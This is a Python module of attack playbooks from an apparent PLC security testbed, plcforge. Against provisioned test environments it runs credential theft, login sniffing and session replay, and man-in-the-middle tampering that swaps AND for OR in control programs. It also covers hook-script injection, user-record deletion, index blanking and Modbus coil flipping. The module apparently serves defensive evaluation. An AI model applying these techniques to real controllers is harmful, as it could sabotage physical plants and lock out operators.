# plcforge
# MIT License
#
# Copyright (c) 2026 The plcforge developers
#
# Permission is hereby granted, free of charge, to any person obtaining a copy
# of this software and associated documentation files (the "Software"), to deal
# in the Software without restriction, including without limitation the rights
# to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
# copies of the Software, and to permit persons to whom the Software is
# furnished to do so, subject to the following conditions:
#
# The above copyright notice and this permission notice shall be included in all
# copies or substantial portions of the Software.
#
# THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
# IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
# FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
# AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
# LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
# OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
# SOFTWARE.
"""
Attack playbooks.

Each playbook runs against a freshly provisioned environment and returns an
AttackOutcome whose evidence is enough to re-check the verdict offline.
Blocked steps (permission errors, refused logins, failed handshakes) are
normal results, not errors.
"""
from collections.abc import Callable

from ducktools.classbuilder.prefab import prefab

from . import COMPILE_SENTINEL, DEFAULT_PASSWORD, DEFAULT_USERNAME
from . import _lazy_imports as _laz
from ._records import RecordBook
from .aquasec import is_base64_text, BLOCK_BYTES
from .client import ForgeClient
from .exceptions import (
    ExceptionResponse,
    InvalidRecord,
    LifecycleError,
    ModbusTimeout,
    PermissionDenied,
    TransportError,
)
from .fieldbus import HmiClient
from .paths import DB_FILENAME, WEBSERVER_FOLDERNAME, ACTIVE_PROGRAM_FILENAME
from .store import OTHER, UserRecord
from .tap import ByteFlipRule, CoilFlipRule, PatternRule, replay

TYPE_CHECKING = False
if TYPE_CHECKING:
    from .harness import ForgeEnvironment


ACCESS = "access"
AUTH = "auth"
REPLAY = "replay"
MITM = "mitm"
INJECTION = "injection"
PSM_INJECTION = "psm-injection"
DENY_OF_ACCESS = "deny-of-access"
INDEX_CORRUPTION = "index-corruption"
MODBUS_FCI = "modbus-fci"

CORE_SCENARIOS = (ACCESS, AUTH, REPLAY, MITM, INJECTION)
EXTRA_SCENARIOS = (PSM_INJECTION, DENY_OF_ACCESS, INDEX_CORRUPTION, MODBUS_FCI)

DB_PATH = DB_FILENAME
ACTIVE_PROGRAM_PATH = f"{WEBSERVER_FOLDERNAME}/{ACTIVE_PROGRAM_FILENAME}"

# Same length, so rewritten HTTP bodies keep their Content-Length
OPERATOR_PATTERN = b" AND "
OPERATOR_REPLACEMENT = b" OR  "

CREDENTIAL_FIELDS = rb"username=([^&\s]*)&password=([^&\s]*)"

FCI_COIL = 3  # manual_override, %IX0.3


@prefab(frozen=True)
class AttackOutcome:
    scenario: str
    profile: str
    success: bool
    evidence: tuple = ()

    def get(self, label: str, default: str | None = None) -> str | None:
        for key, value in self.evidence:
            if key == label:
                return value
        return default

    def to_dict(self) -> dict:
        return {
            "scenario": self.scenario,
            "profile": self.profile,
            "success": self.success,
            "evidence": [list(item) for item in self.evidence],
        }


class Evidence:
    """
    Ordered (label, value) pairs collected while a playbook runs
    """
    def __init__(self):
        self.items: list[tuple[str, str]] = []

    def add(self, label: str, value) -> None:
        self.items.append((label, str(value)))

    def outcome(self, scenario: str, profile: str, success: bool) -> AttackOutcome:
        return AttackOutcome(
            scenario=scenario,
            profile=profile,
            success=success,
            evidence=tuple(self.items),
        )


# Shared attacker steps
def credentials_look_plain(user: UserRecord) -> bool:
    """
    True unless both credential fields look like Base64 AES ciphertext
    """
    for field in (user.username, user.password):
        if not is_base64_text(field):
            return True
        try:
            raw = _laz.base64.b64decode(field, validate=True)
        except (_laz.binascii.Error, ValueError):
            return True
        if len(raw) % BLOCK_BYTES:
            return True
    return False


def read_db_users(env: "ForgeEnvironment") -> list[UserRecord]:
    data = env.store.read_as(OTHER, DB_PATH)
    book = RecordBook.loads(data.decode("utf-8"))
    return UserRecord.select_rows(book)


def sniff_credentials(env: "ForgeEnvironment") -> tuple[str, str] | None:
    """
    Watch one operator login through a recording tap and pull the form fields out
    """
    transcript = env.sniff_operator_login()
    found = _laz.re.search(CREDENTIAL_FIELDS, transcript.client_bytes())
    if found is None:
        return None
    unquote = _laz.unquote_plus
    return unquote(found.group(1).decode("ascii")), unquote(found.group(2).decode("ascii"))


def db_credentials(env: "ForgeEnvironment") -> tuple[str, str] | None:
    try:
        users = read_db_users(env)
    except (PermissionDenied, FileNotFoundError, InvalidRecord):
        return None
    for user in users:
        if credentials_look_plain(user):
            return user.username, user.password
    return None


def steal_session(env: "ForgeEnvironment", evidence: Evidence) -> ForgeClient | None:
    """
    Try sniffed, database and published default credentials from the attacker address
    """
    candidates: list[tuple[str, Callable]] = [
        ("transcript", sniff_credentials),
        ("database", db_credentials),
        ("default", lambda _: (DEFAULT_USERNAME, DEFAULT_PASSWORD)),
    ]
    for source, finder in candidates:
        credentials = finder(env)
        if credentials is None:
            evidence.add(f"{source}_credentials", "none")
            continue

        attacker = env.client(env.config.attacker_ip)
        try:
            response = attacker.login(*credentials)
        except TransportError as e:
            evidence.add(f"{source}_login", f"transport error: {type(e).__name__}")
            continue
        evidence.add(f"{source}_login", response.status)
        if response.status == 302 and attacker.token:
            if attacker.get("/dashboard").status == 200:
                evidence.add("session_source", source)
                return attacker
    return None


def mutate_operator(source: bytes) -> bytes:
    if OPERATOR_PATTERN not in source:
        raise ValueError("Program has no operator to swap")
    return source.replace(OPERATOR_PATTERN, OPERATOR_REPLACEMENT, 1)


def format_table(table: dict[str, str]) -> str:
    return " ".join(f"{vector}:{outputs}" for vector, outputs in sorted(table.items()))


def changed_vectors(before: dict[str, str], after: dict[str, str]) -> list[str]:
    return [vector for vector in sorted(before) if before[vector] != after.get(vector)]


def digest(*parts) -> str:
    text = "\x1f".join(str(p) for p in parts)
    return _laz.hashlib.sha256(text.encode("utf-8")).hexdigest()[:16]


# Core scenarios
def access_playbook(env: "ForgeEnvironment") -> AttackOutcome:
    evidence = Evidence()

    try:
        users = read_db_users(env)
    except PermissionDenied:
        evidence.add("db", "permission denied")
        users = None
    else:
        plain = [u for u in users if credentials_look_plain(u)]
        evidence.add("db", f"{len(users)} user records")
        evidence.add("plaintext_credentials", len(plain))
        if not plain:
            users = None

    try:
        active = env.store.read_as(OTHER, ACTIVE_PROGRAM_PATH).decode("utf-8").strip()
    except PermissionDenied:
        evidence.add("active_program", "permission denied")
        active = None
    else:
        evidence.add("active_program", active or "empty")

    success = bool(users) and bool(active)
    return evidence.outcome(ACCESS, env.profile, success)


def auth_playbook(env: "ForgeEnvironment") -> AttackOutcome:
    evidence = Evidence()
    attacker = steal_session(env, evidence)
    return evidence.outcome(AUTH, env.profile, attacker is not None)


def replay_playbook(env: "ForgeEnvironment") -> AttackOutcome:
    evidence = Evidence()
    transcript = env.sniff_operator_login()
    evidence.add("recorded_client_bytes", len(transcript.client_bytes()))

    try:
        response = replay(transcript, env.web_address, source_ip=env.config.attacker_ip)
    except TransportError as e:
        evidence.add("replay", f"transport error: {type(e).__name__}")
        return evidence.outcome(REPLAY, env.profile, False)

    status_line = response.split(b"\r\n", 1)[0].decode("latin-1")
    evidence.add("status_line", status_line)

    cookie = _laz.re.search(rb"session=([0-9a-f]+)", response)
    if cookie is None:
        evidence.add("cookie", "none")
        return evidence.outcome(REPLAY, env.profile, False)

    attacker = env.client(env.config.attacker_ip)
    attacker.cookies["session"] = cookie.group(1).decode("ascii")
    status = attacker.get("/dashboard").status
    evidence.add("dashboard_with_replayed_cookie", status)
    return evidence.outcome(REPLAY, env.profile, status == 200)


def mitm_playbook(env: "ForgeEnvironment") -> AttackOutcome:
    evidence = Evidence()

    # TLS content can not be matched, so tampering goes blind
    rule = ByteFlipRule() if env.tls else PatternRule(OPERATOR_PATTERN, OPERATOR_REPLACEMENT)
    evidence.add("rule", type(rule).__name__)

    source = env.demo_source
    tap = env.tap(rule=rule)
    operator = env.client(env.config.operator_ip, address=tap.address)
    try:
        login = operator.login(DEFAULT_USERNAME, DEFAULT_PASSWORD)
        if login.status != 302:
            raise LifecycleError("login refused", status=login.status)
        copy_name = operator.deploy(source, "user_program_v2", "pump station update")
    except (TransportError, LifecycleError) as e:
        evidence.add("operator", f"failed: {type(e).__name__}")
        return evidence.outcome(MITM, env.profile, False)
    evidence.add("operator", "all responses successful")

    stored = env.store.read_copy(copy_name)
    changed = stored != source
    evidence.add("stored_copy_changed", changed)
    evidence.add("stored_copy_digest", digest(stored))
    return evidence.outcome(MITM, env.profile, changed)


def injection_playbook(env: "ForgeEnvironment") -> AttackOutcome:
    evidence = Evidence()

    baseline_table = env.plant_truth_table()
    baseline_pages = env.page_digests()
    baseline_records = env.record_digest()
    evidence.add("baseline_table", format_table(baseline_table))
    evidence.add("baseline_oracle_agrees", baseline_table == env.oracle_table(env.demo_source))

    # Target identification
    try:
        active = env.store.read_as(OTHER, ACTIVE_PROGRAM_PATH).decode("utf-8").strip()
    except PermissionDenied:
        evidence.add("blocked_at", "read active_program: permission denied")
        return evidence.outcome(INJECTION, env.profile, False)
    evidence.add("target", active)

    # Mutate the copy in place
    target_path = f"{WEBSERVER_FOLDERNAME}/{active}"
    try:
        original = env.store.read_as(OTHER, target_path)
        mutated = mutate_operator(original)
        env.store.write_as(OTHER, target_path, mutated)
    except PermissionDenied:
        evidence.add("blocked_at", "write copy: permission denied")
        return evidence.outcome(INJECTION, env.profile, False)

    attacker = steal_session(env, evidence)
    if attacker is None:
        evidence.add("blocked_at", "no session")
        return evidence.outcome(INJECTION, env.profile, False)

    # Crafted compile and start requests
    try:
        attacker.compile(active)
        log_text, polls = attacker.poll_logs()
        start = attacker.start()
    except (TransportError, LifecycleError) as e:
        evidence.add("blocked_at", f"compile/start: {type(e).__name__}")
        return evidence.outcome(INJECTION, env.profile, False)
    evidence.add("log_polls_at_least_one", polls >= 1)
    evidence.add("compile_finished", log_text.endswith(COMPILE_SENTINEL))
    evidence.add("start_status", start.status)

    attack_table = env.plant_truth_table()
    changed = changed_vectors(baseline_table, attack_table)
    evidence.add("attack_table", format_table(attack_table))
    evidence.add("attack_oracle_agrees", attack_table == env.oracle_table(mutated))
    evidence.add("changed_vector", changed[0] if changed else "none")

    pages_same = env.page_digests() == baseline_pages
    records_same = env.record_digest() == baseline_records
    evidence.add("unchanged_record_hash", baseline_records if records_same else "changed")
    evidence.add("pages_identical", pages_same)

    success = bool(changed) and pages_same and records_same and start.status == 302
    return evidence.outcome(INJECTION, env.profile, success)


# Extra scenarios
def psm_injection_playbook(env: "ForgeEnvironment") -> AttackOutcome:
    evidence = Evidence()
    baseline_table = env.plant_truth_table()

    try:
        active = env.store.read_as(OTHER, ACTIVE_PROGRAM_PATH).decode("utf-8").strip()
    except PermissionDenied:
        # Best guess without the index
        active = env.copy_name
        evidence.add("active_program", "permission denied")

    attacker = steal_session(env, evidence)
    if attacker is None:
        evidence.add("blocked_at", "no session")
        return evidence.outcome(PSM_INJECTION, env.profile, False)

    payload = _laz.base64.b64encode(mutate_operator(env.demo_source)).decode("ascii")
    script = f"WRITE {WEBSERVER_FOLDERNAME}/{active} {payload}\n"
    response = attacker.post("/hardware", form={"hook_script": script})
    evidence.add("hook_status", response.status)
    if response.status != 200:
        return evidence.outcome(PSM_INJECTION, env.profile, False)

    attack_table = env.plant_truth_table()
    changed = changed_vectors(baseline_table, attack_table)
    evidence.add("changed_vector", changed[0] if changed else "none")
    alert = env.runtime.dashboard.alert
    evidence.add("alert", alert or "none")
    return evidence.outcome(PSM_INJECTION, env.profile, bool(changed) and alert is None)


def deny_of_access_playbook(env: "ForgeEnvironment") -> AttackOutcome:
    evidence = Evidence()
    try:
        book = RecordBook.loads(env.store.read_as(OTHER, DB_PATH).decode("utf-8"))
        book.set_lines(UserRecord.SECTION, [])
        env.store.write_as(OTHER, DB_PATH, book.dumps().encode("utf-8"))
    except PermissionDenied:
        evidence.add("blocked_at", "database: permission denied")
        return evidence.outcome(DENY_OF_ACCESS, env.profile, False)
    evidence.add("user_records_deleted", True)

    operator = env.client(env.config.operator_ip)
    status = operator.login(DEFAULT_USERNAME, DEFAULT_PASSWORD).status
    evidence.add("operator_login", status)
    return evidence.outcome(DENY_OF_ACCESS, env.profile, status == 401)


def index_corruption_playbook(env: "ForgeEnvironment") -> AttackOutcome:
    evidence = Evidence()
    try:
        env.store.write_as(OTHER, ACTIVE_PROGRAM_PATH, b"")
    except PermissionDenied:
        evidence.add("blocked_at", "active_program: permission denied")
        return evidence.outcome(INDEX_CORRUPTION, env.profile, False)
    evidence.add("active_program", "blanked")

    status = env.operator.start().status
    evidence.add("start_status", status)
    return evidence.outcome(INDEX_CORRUPTION, env.profile, status == 500)


def modbus_fci_playbook(env: "ForgeEnvironment") -> AttackOutcome:
    evidence = Evidence()
    tap = env.tap(upstream=env.modbus_address, rule=CoilFlipRule(FCI_COIL))

    intended = True
    try:
        with HmiClient(tap.address, timeout=env.config.client_timeout) as hmi:
            echoed = hmi.write_coil(FCI_COIL, intended)
    except (ModbusTimeout, ExceptionResponse) as e:
        evidence.add("hmi", f"failed: {type(e).__name__}")
        return evidence.outcome(MODBUS_FCI, env.profile, False)
    evidence.add("hmi_echo_matches_intent", echoed == intended)

    env.runtime.wait_for_scans(2)
    actual = env.runtime.plant.snapshot().input_coils[FCI_COIL]
    evidence.add("plant_input", actual)

    success = echoed == intended and actual != intended
    return evidence.outcome(MODBUS_FCI, env.profile, success)


PLAYBOOKS: dict[str, Callable[["ForgeEnvironment"], AttackOutcome]] = {
    ACCESS: access_playbook,
    AUTH: auth_playbook,
    REPLAY: replay_playbook,
    MITM: mitm_playbook,
    INJECTION: injection_playbook,
    PSM_INJECTION: psm_injection_playbook,
    DENY_OF_ACCESS: deny_of_access_playbook,
    INDEX_CORRUPTION: index_corruption_playbook,
    MODBUS_FCI: modbus_fci_playbook,
}
